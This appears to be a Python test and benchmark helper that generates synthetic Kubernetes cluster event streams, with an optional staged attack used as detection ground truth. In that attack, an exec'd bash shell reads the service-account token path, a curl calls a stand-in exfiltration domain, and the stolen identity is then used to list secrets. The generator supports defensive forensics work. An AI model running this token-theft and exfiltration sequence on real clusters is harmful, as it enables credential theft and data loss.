"""Synthetic cluster activity at scale: realistic event streams for the forensics/store benchmarks and tests.

A small model of a cluster: namespaces with Deployments whose pods run a process tree (an entrypoint that
spawns workers, health checks and shell scripts), open files, resolve names, connect to services and call the
Kubernetes API with their service account, plus humans using ``kubectl``. Optionally one attack story is woven
in: a ``kubectl exec`` into a pod, an interactive shell, a service-account token read, an API call with that
token and a connection to an outside address.

Events come out as JSON bytes (the wire form on ``cadr.events``) with their Kafka key (the workload key), in
time order; generation is deterministic for a seed. It builds dicts and encodes them with orjson, ~2 µs an
event, so ten million take well under a minute.
"""

from __future__ import annotations

import random
from collections.abc import Iterator
from dataclasses import dataclass, field

import orjson

__all__ = ["ATTACK", "Attack", "ClusterModel", "generate"]

_NS = 1_000_000_000

_IMAGES = {
    "web": ("nginx:1.27", "/usr/sbin/nginx", ["nginx", "-g", "daemon off;"]),
    "api": ("python:3.12-slim", "/usr/local/bin/python3", ["python3", "-m", "gunicorn", "app:app"]),
    "worker": ("python:3.12-slim", "/usr/local/bin/python3", ["python3", "-m", "celery", "worker"]),
    "db": (
        "postgres:16",
        "/usr/lib/postgresql/16/bin/postgres",
        ["postgres", "-D", "/var/lib/postgresql/data"],
    ),
    "cache": ("redis:7", "/usr/local/bin/redis-server", ["redis-server", "/etc/redis.conf"]),
    "java": ("eclipse-temurin:21", "/opt/java/openjdk/bin/java", ["java", "-jar", "/app/app.jar"]),
}
_CHILDREN = [
    ("/bin/sh", ["sh", "-c", "/healthz.sh"]),
    ("/usr/bin/curl", ["curl", "-fsS", "http://127.0.0.1:8080/healthz"]),
    ("/bin/date", ["date", "+%s"]),
    ("/usr/bin/find", ["find", "/tmp", "-mmin", "+60", "-delete"]),
    ("/usr/bin/logrotate", ["logrotate", "/etc/logrotate.conf"]),
]
_FILES = [
    "/etc/hosts",
    "/etc/resolv.conf",
    "/etc/ssl/certs/ca-certificates.crt",
    "/proc/self/status",
    "/proc/meminfo",
    "/usr/lib/x86_64-linux-gnu/libssl.so.3",
    "/app/config.yaml",
    "/var/log/app/app.log",
    "/tmp/cache.db",
    "/etc/passwd",
]
_VERBS = ["get", "list", "watch", "get", "list", "update", "create", "patch"]
_RESOURCES = ["configmaps", "pods", "endpoints", "leases", "secrets", "services", "events"]
_HUMANS = ["alice@example.com", "bob@example.com", "carol@example.com"]


@dataclass(frozen=True)
class Attack:
    """The woven-in story (its values let tests and benchmarks ask the store about it)."""

    namespace: str = "shop"
    workload: str = "shop-api"
    user: str = "mallory@example.com"
    shell_exec_id: str = "attack-shell"
    token_path: str = "/var/run/secrets/kubernetes.io/serviceaccount/token"
    c2_ip: str = "203.0.113.66"
    c2_domain: str = "exfil.example.net"


ATTACK = Attack()


@dataclass
class _Pod:
    cluster: str
    namespace: str
    workload: str
    pod: str
    container: str
    image: str
    exe: str
    args: list[str]
    service_account: str
    pod_ip: str
    node: str
    root_exec: str
    execs: list[str] = field(default_factory=list)
    pid: int = 1

    def workload_block(self) -> dict[str, object]:
        return {
            "cluster": self.cluster,
            "namespace": self.namespace,
            "pod": self.pod,
            "container": self.container,
            "container_id": f"containerd://{abs(hash(self.pod)) % 10**12:012x}",
            "workload_kind": "Deployment",
            "workload_name": self.workload,
            "image": self.image,
            "service_account": self.service_account,
            "pod_ip": self.pod_ip,
        }

    @property
    def key(self) -> bytes:
        return f"{self.cluster}/{self.namespace}/Deployment/{self.workload}".encode()


@dataclass
class ClusterModel:
    """Shape of the synthetic cluster."""

    namespaces: int = 20
    workloads_per_namespace: int = 10
    max_replicas: int = 3
    nodes: int = 8
    cluster: str = "prod"
    seed: int = 7
    start_ns: int = 1_790_000_000 * _NS  # 2026-09-21
    #: mean gap between consecutive events (cluster-wide): 15 ms, so 10M events span ~42 hours (two daily
    #: partitions, and a time window selects what it would in a real cluster)
    gap_ns: int = 15_000_000


def _pods(model: ClusterModel, rng: random.Random) -> list[_Pod]:
    pods: list[_Pod] = []
    kinds = list(_IMAGES)
    for n in range(model.namespaces):
        namespace = ATTACK.namespace if n == 0 else f"team-{n:02d}"
        for w in range(model.workloads_per_namespace):
            role = kinds[(n + w) % len(kinds)]
            workload = ATTACK.workload if (n, w) == (0, 0) else f"{namespace}-{role}-{w}"
            image, exe, args = _IMAGES[role]
            for r in range(rng.randint(1, model.max_replicas)):
                pod = f"{workload}-{rng.getrandbits(32):08x}-{r}"
                pods.append(
                    _Pod(
                        cluster=model.cluster,
                        namespace=namespace,
                        workload=workload,
                        pod=pod,
                        container=role,
                        image=image,
                        exe=exe,
                        args=args,
                        service_account=f"{workload}-sa",
                        pod_ip=f"10.{n}.{w}.{r + 10}",
                        node=f"node-{rng.randrange(model.nodes)}",
                        root_exec=f"{pod}:1",
                    )
                )
    return pods


def generate(
    count: int, model: ClusterModel | None = None, *, attack_at: float | None = 0.5
) -> Iterator[tuple[bytes, bytes]]:
    """Yield ``count`` events as ``(key, json)`` in time order; ``attack_at`` places the attack story at that
    fraction of the stream (``None``: no attack)."""
    model = model or ClusterModel()
    rng = random.Random(model.seed)
    pods = _pods(model, rng)
    t = model.start_ns
    attack_index = None if attack_at is None else int(count * attack_at)
    seq = 0
    emitted = 0
    # Every pod starts with its entrypoint exec, so process trees have roots.
    for pod in pods:
        if emitted >= count:
            return
        t += model.gap_ns
        seq += 1
        yield pod.key, _exec(pod, t, seq, pod.root_exec, "", pod.exe, pod.args, pid=1)
        emitted += 1
    weights = [45, 10, 9, 14, 10, 8, 1, 3]
    makers = ["open", "exec", "exit", "connect", "dns", "api", "priv", "accept"]
    while emitted < count:
        if attack_index is not None and emitted >= attack_index:
            attack_index = None
            for key, value in _attack(pods, t, model):
                if emitted >= count:
                    return
                t += model.gap_ns
                yield key, value
                emitted += 1
            continue
        t += rng.randint(1, 2 * model.gap_ns)
        seq += 1
        pod = pods[rng.randrange(len(pods))]
        what = rng.choices(makers, weights)[0]
        if what == "exec":
            pod.pid += 1
            exe, args = _CHILDREN[rng.randrange(len(_CHILDREN))]
            parent = pod.root_exec if not pod.execs or rng.random() < 0.7 else rng.choice(pod.execs)
            exec_id = f"{pod.pod}:{pod.pid}"
            pod.execs.append(exec_id)
            if len(pod.execs) > 32:
                pod.execs.pop(0)
            value = _exec(pod, t, seq, exec_id, parent, exe, args, pid=pod.pid)
        elif what == "exit":
            value = _event(
                pod,
                t,
                seq,
                "process_exit",
                _proc(pod, pod.root_exec, "", pod.exe, pod.args, pod.pid) | {"exit_code": 0},
            )
        elif what == "open":
            path = _FILES[rng.randrange(len(_FILES))]
            value = _event(
                pod,
                t,
                seq,
                "file_open",
                _proc(pod, pod.root_exec, "", pod.exe, pod.args, 1),
                file={"path": path, "flags": 0},
            )
        elif what == "connect":
            dst = f"10.{rng.randrange(model.namespaces)}.{rng.randrange(model.workloads_per_namespace)}.{rng.randrange(10, 13)}"
            net = {
                "src_ip": pod.pod_ip,
                "src_port": rng.randint(32768, 60999),
                "dst_ip": dst,
                "dst_port": rng.choice([80, 443, 5432, 6379, 8080]),
            }
            value = _event(
                pod, t, seq, "net_connect", _proc(pod, pod.root_exec, "", pod.exe, pod.args, 1), network=net
            )
        elif what == "accept":
            net = {
                "src_ip": pod.pod_ip,
                "src_port": 8080,
                "dst_ip": f"10.{rng.randrange(20)}.{rng.randrange(10)}.{rng.randrange(10, 13)}",
                "dst_port": rng.randint(32768, 60999),
                "direction": "ingress",
            }
            value = _event(
                pod, t, seq, "net_accept", _proc(pod, pod.root_exec, "", pod.exe, pod.args, 1), network=net
            )
        elif what == "dns":
            name = f"{rng.choice(['db', 'cache', 'api', 'auth'])}.{pod.namespace}.svc.cluster.local"
            value = _event(
                pod,
                t,
                seq,
                "dns_query",
                _proc(pod, pod.root_exec, "", pod.exe, pod.args, 1),
                dns={"query": name, "server_ip": "10.96.0.10"},
            )
        elif what == "priv":
            value = _event(
                pod,
                t,
                seq,
                "privilege_change",
                _proc(pod, pod.root_exec, "", pod.exe, pod.args, 1),
                privilege={"op": "setuid", "old_uid": 0, "new_uid": 1000},
            )
        else:
            human = rng.random() < 0.1
            user = (
                rng.choice(_HUMANS)
                if human
                else f"system:serviceaccount:{pod.namespace}:{pod.service_account}"
            )
            value = _api(pod, t, seq, user, rng.choice(_VERBS), rng.choice(_RESOURCES), "", pod.pod_ip, human)
        yield pod.key, value
        emitted += 1


def _proc(pod: _Pod, exec_id: str, parent: str, exe: str, args: list[str], pid: int) -> dict[str, object]:
    return {
        "pid": pid,
        "ppid": 1 if pid != 1 else 0,
        "uid": 1000,
        "euid": 1000,
        "gid": 1000,
        "egid": 1000,
        "comm": exe.rsplit("/", 1)[-1][:15],
        "exe": exe,
        "args": args,
        "cwd": "/app",
        "exec_id": exec_id,
        "parent_exec_id": parent,
    }


def _event(
    pod: _Pod,
    t: int,
    seq: int,
    kind: str,
    process: dict[str, object] | None,
    event_id: str = "",
    **blocks: object,
) -> bytes:
    record: dict[str, object] = {
        "schema_version": 1,
        "event_id": event_id or f"{pod.node}-{seq:012d}",
        "time": t,
        "node": pod.node,
        "source": "ebpf",
        "kind": kind,
        "workload": pod.workload_block(),
        "enriched": True,
    }
    if process is not None:
        record["process"] = process
    record.update(blocks)
    return orjson.dumps(record)


def _exec(
    pod: _Pod, t: int, seq: int, exec_id: str, parent: str, exe: str, args: list[str], *, pid: int
) -> bytes:
    return _event(pod, t, seq, "process_exec", _proc(pod, exec_id, parent, exe, args, pid))


def _api(
    pod: _Pod,
    t: int,
    seq: int,
    user: str,
    verb: str,
    resource: str,
    sub: str,
    ip: str,
    human: bool,
    event_id: str = "",
) -> bytes:
    record: dict[str, object] = {
        "schema_version": 1,
        "event_id": event_id or f"audit-{seq:012d}",
        "time": t,
        "node": "control-plane",
        "source": "k8s_audit",
        "kind": "k8s_api",
        "workload": {"cluster": pod.cluster, "namespace": pod.namespace} if human else pod.workload_block(),
        "audit": {
            "audit_id": f"a-{seq:012d}",
            "verb": verb,
            "user": user,
            "groups": ["system:authenticated"] if human else ["system:serviceaccounts"],
            "resource": resource,
            "subresource": sub,
            "namespace": pod.namespace,
            "name": pod.pod if resource == "pods" else f"{pod.workload}-{resource}",
            "source_ips": ["192.0.2.10"] if human else [ip],
            "user_agent": "kubectl/v1.31.0" if human else "python-requests/2.32",
            "response_code": 200,
        },
        "enriched": True,
    }
    return orjson.dumps(record)


def _attack(pods: list[_Pod], t: int, model: ClusterModel) -> list[tuple[bytes, bytes]]:
    victim = next(p for p in pods if p.workload == ATTACK.workload)
    step = model.gap_ns
    out: list[tuple[bytes, bytes]] = []
    a = ATTACK
    out.append(
        (victim.key, _api(victim, t, 0, a.user, "create", "pods", "exec", "198.51.100.7", True, "attack-1"))
    )
    shell = _proc(victim, a.shell_exec_id, victim.root_exec, "/bin/bash", ["bash", "-i"], 4242) | {
        "tty": True
    }
    out.append((victim.key, _event(victim, t + step, 0, "process_exec", shell, "attack-2")))
    cat = _proc(victim, "attack-cat", a.shell_exec_id, "/bin/cat", ["cat", a.token_path], 4243)
    curl = _proc(
        victim, "attack-curl", a.shell_exec_id, "/usr/bin/curl", ["curl", f"https://{a.c2_domain}/x"], 4244
    )
    conn = {"src_ip": victim.pod_ip, "src_port": 40000, "dst_ip": a.c2_ip, "dst_port": 443}
    steps: list[tuple[str, str, dict[str, object], dict[str, object]]] = [
        ("attack-3", "process_exec", cat, {}),
        ("attack-4", "file_open", cat, {"file": {"path": a.token_path}}),
        ("attack-5", "process_exec", curl, {}),
        ("attack-6", "dns_query", curl, {"dns": {"query": a.c2_domain}}),
        ("attack-7", "net_connect", curl, {"network": conn}),
    ]
    for i, (event_id, kind, proc, blocks) in enumerate(steps, start=2):
        out.append((victim.key, _event(victim, t + i * step, 0, kind, proc, event_id, **blocks)))
    sa_user = f"system:serviceaccount:{victim.namespace}:{victim.service_account}"
    api = _api(victim, t + 9 * step, 0, sa_user, "list", "secrets", "", victim.pod_ip, False, "attack-8")
    out.append((victim.key, api))
    return out
